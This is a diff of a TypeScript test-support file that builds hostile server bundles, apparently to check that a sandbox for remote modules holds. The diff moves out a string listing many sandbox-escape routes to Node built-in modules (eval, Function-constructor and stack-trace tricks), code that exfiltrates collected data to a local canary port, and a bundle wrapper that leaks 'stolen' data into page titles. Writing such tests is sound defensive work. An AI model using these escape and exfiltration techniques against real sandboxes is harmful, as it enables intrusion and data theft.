@@ -1,4 +1,5 @@
 /** What a remote's server bundle can do wrong, as code that is put into a good one. */
+import { BUILTIN, TELL } from './ways-out.ts';
 
 /** One way to be hostile. The codes see `canary`, where the attempts are looked for. */
 export interface ServerFault {
@@ -15,52 +16,6 @@ export interface ServerFault {
   /** Whether the release does its work all the same, so that no failure of it need be counted. */
   readonly mayWork?: boolean;
 }
-
-/** Any way to a built-in module that somebody who is not meant to have one may think of. */
-const BUILTIN = `
-  const ways = [
-    (name) => import('node:' + name),
-    (name) => globalThis.process.getBuiltinModule('node:' + name),
-    (name) => (0, eval)('require')(name),
-    (name) => (0, eval)('import("node:' + name + '")'),
-    (name) => new Function('return process')().getBuiltinModule(name),
-    (name) => globalThis.__sinimaShared.react.useState.constructor('return process')().getBuiltinModule(name),
-    (name) => globalThis.__sinimaShared['@sinima/runtime'].useQuery.constructor('return process')().getBuiltinModule(name),
-    (name) => setTimeout.constructor('return this')().process.getBuiltinModule(name),
-    (name) => setTimeout(() => undefined).constructor.constructor('return process')().mainModule.require(name),
-    (name) => globalThis.process.binding(name),
-    (name) => globalThis.global.process.mainModule.require(name),
-    (name) => {
-      const former = Error.prepareStackTrace;
-      Error.prepareStackTrace = (_error, sites) => sites;
-      const found = new Error().stack.map((site) => { try { return site.getThis() ?? site.getFunction(); } catch {} });
-      Error.prepareStackTrace = former;
-      return found.find((each) => each?.constructor)?.constructor.constructor('return process')().getBuiltinModule(name);
-    },
-  ];
-  const builtin = async (name) => {
-    for (const way of ways) {
-      try {
-        const found = await Promise.race([way(name), new Promise((_, fail) => setTimeout(fail, 100))]);
-        if (found) return found.default ?? found;
-      } catch {}
-    }
-    return undefined;
-  };
-  const attempt = async (action) => { try { return await action(); } catch { return undefined; } };
-`;
-
-/** Tell the world what was found, by every way out. */
-const TELL = `
-  const tell = async (found) => {
-    const words = Object.values(found).filter((each) => each !== undefined);
-    if (words.length === 0) return;
-    globalThis.stolen = JSON.stringify(found);
-    const net = await builtin('net');
-    await attempt(() => { const socket = net.connect(canary.port, '127.0.0.1', () => socket.end('GET /' + encodeURIComponent(globalThis.stolen.slice(0, 500)) + ' HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n')); socket.on('error', () => undefined); });
-    await attempt(() => fetch('http://127.0.0.1:' + canary.port + '/' + encodeURIComponent(globalThis.stolen.slice(0, 500))));
-  };
-`;
 
 const once = (statements: string): string =>
   `if (!globalThis.tried) { globalThis.tried = true; ${statements} }`;
@@ -197,34 +152,4 @@ export function serverFault(name: string): ServerFault {
   const found = serverFaults.find((each) => each.name === name);
   if (!found) throw new Error(`No fault is called "${name}".`);
   return found;
-}
-
-const EXPORT = /export \{ (\w+) as default \};?\s*$/;
-
-/** Return a good server bundle with a fault in it. @param canary what the code is told of the places that it attacks */
-export function hostileBundle(good: string, fault: ServerFault, canary: unknown): string {
-  if (fault.wholeBundle !== undefined) return fault.wholeBundle;
-  const [, exported] = EXPORT.exec(good) ?? [];
-  if (exported === undefined) throw new Error('The server bundle exports no module in the known way.');
-  const { atImport = '', inRender = '', inPrefetch = '' } = fault;
-  return `const canary = ${JSON.stringify(canary)};
-${atImport}
-${good.replace(EXPORT, '')}
-const hostile = (fragment) => ({
-  ...fragment,
-  async load() {
-    const { default: Good } = await fragment.load();
-    return { default(props) { ${inRender}
-      return Good(props); } };
-  },
-  async prefetch(context) { ${inPrefetch}
-    return fragment.prefetch?.(context); },
-  ...(fragment.head && { head: (context) => {
-    const head = fragment.head(context);
-    return globalThis.stolen ? { ...head, title: 'stolen: ' + globalThis.stolen } : head;
-  } }),
-});
-const all = (fragments) => Object.fromEntries(Object.entries(fragments).map(([id, each]) => [id, hostile(each)]));
-export default { pages: all(${exported}.pages), widgets: all(${exported}.widgets) };
-`;
 }
